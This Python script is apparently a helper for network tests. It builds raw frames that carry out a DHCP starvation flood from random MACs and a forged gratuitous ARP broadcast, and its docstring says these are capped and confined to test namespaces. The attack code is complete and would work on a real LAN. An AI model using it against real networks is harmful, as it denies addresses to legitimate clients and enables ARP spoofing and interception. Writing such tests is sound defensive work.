#!/usr/bin/env python3
"""lan_floods.py - hostile LAN-service frames for tests/net/test_lan_floods.sh,
written on a raw socket from inside a test namespace. Bounded in count and
time; nothing leaves the namespaces.

  lan_floods.py dhcp-flood IFACE SECONDS RATE
      DHCP starvation: DISCOVERs from random MACs (broadcast flag set, so
      the OFFERs come back broadcast), each OFFER answered with a REQUEST
      for it, as a starvation tool does. At most RATE a second for SECONDS.
      Prints "sent=N offers=N acks=N".

  lan_floods.py garp IFACE IP MAC
      One forged gratuitous ARP (a request with sender = target = IP, from
      MAC), broadcast.
"""
import os
import select
import socket
import struct
import sys
import time

ETH_P_ALL = 0x0003
MAX_FRAMES = 100000  # a hard cap whatever the arguments say


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    s = (s & 0xFFFF) + (s >> 16)
    s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def udp_frame(mac, payload, src="0.0.0.0", dst="255.255.255.255"):
    s, d = socket.inet_aton(src), socket.inet_aton(dst)
    udp = struct.pack("!HHHH", 68, 67, 8 + len(payload), 0) + payload
    c = csum(s + d + struct.pack("!BBH", 0, 17, len(udp)) + udp) or 0xFFFF
    udp = udp[:6] + struct.pack("!H", c) + udp[8:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0, s, d)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return b"\xff" * 6 + mac + b"\x08\x00" + ip + udp


def bootp(mac, xid, options):
    fixed = struct.pack("!BBBBIHH", 1, 1, 6, 0, xid, 0, 0x8000) + b"\0" * 16
    fixed += mac + b"\0" * 10 + b"\0" * 192
    msg = fixed + b"\x63\x82\x53\x63" + options + b"\xff"
    return msg + b"\0" * max(0, 300 - len(msg))


def random_mac():
    m = bytearray(os.urandom(6))
    m[0] = (m[0] & 0xFC) | 0x02
    return bytes(m)


def parse_reply(frame):
    """(chaddr, yiaddr, server_id, type) of a DHCP reply frame, or None."""
    if len(frame) < 14 + 20 + 8 + 240 or frame[12:14] != b"\x08\x00" or frame[23] != 17:
        return None
    ihl = (frame[14] & 15) * 4
    udp = 14 + ihl
    if struct.unpack("!H", frame[udp + 2:udp + 4])[0] != 68:
        return None
    b = frame[udp + 8:]
    if len(b) < 240 or b[0] != 2:
        return None
    chaddr, yiaddr = b[28:34], b[16:20]
    i, mtype, sid = 240, 0, b"\0\0\0\0"
    while i + 1 < len(b) and b[i] != 255:
        if b[i] == 0:
            i += 1
            continue
        code, ln = b[i], b[i + 1]
        val = b[i + 2:i + 2 + ln]
        if code == 53 and ln == 1:
            mtype = val[0]
        elif code == 54 and ln == 4:
            sid = val
        i += 2 + ln
    return chaddr, yiaddr, sid, mtype


def dhcp_flood(iface, seconds, rate):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    s.bind((iface, 0))
    s.setblocking(False)
    sent = offers = acks = 0
    xid = 0x5000
    start = time.monotonic()
    end = start + seconds
    while time.monotonic() < end and sent < min(MAX_FRAMES, int(seconds * rate)):
        # Keep the pace: frame k leaves at start + k / rate.
        if time.monotonic() >= start + sent / rate:
            mac = random_mac()
            xid += 1
            s.send(udp_frame(mac, bootp(mac, xid, b"\x35\x01\x01")))
            sent += 1
        r, _, _ = select.select([s], [], [], 0.0005)
        while r:
            try:
                frame = s.recv(2048)
            except BlockingIOError:
                break
            got = parse_reply(frame)
            if not got:
                continue
            chaddr, yiaddr, sid, mtype = got
            if mtype == 2:  # OFFER: take it
                offers += 1
                opts = b"\x35\x01\x03\x32\x04" + yiaddr + b"\x36\x04" + sid
                s.send(udp_frame(chaddr, bootp(chaddr, 0x6000, opts)))
            elif mtype == 5:
                acks += 1
    # The last OFFERs and ACKs of the burst.
    drain = time.monotonic() + 1.0
    while time.monotonic() < drain:
        r, _, _ = select.select([s], [], [], 0.05)
        if not r:
            continue
        try:
            got = parse_reply(s.recv(2048))
        except BlockingIOError:
            continue
        if got and got[3] == 5:
            acks += 1
    print("sent=%d offers=%d acks=%d" % (sent, offers, acks))


def garp(iface, ip, mac_text):
    mac = bytes.fromhex(mac_text.replace(":", ""))
    a = socket.inet_aton(ip)
    arp = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 1) + mac + a + b"\0" * 6 + a
    frame = b"\xff" * 6 + mac + b"\x08\x06" + arp + b"\0" * 18
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((iface, 0))
    s.send(frame)


def main():
    if len(sys.argv) == 5 and sys.argv[1] == "dhcp-flood":
        dhcp_flood(sys.argv[2], float(sys.argv[3]), float(sys.argv[4]))
    elif len(sys.argv) == 5 and sys.argv[1] == "garp":
        garp(sys.argv[2], sys.argv[3], sys.argv[4])
    else:
        sys.exit(__doc__)


if __name__ == "__main__":
    main()
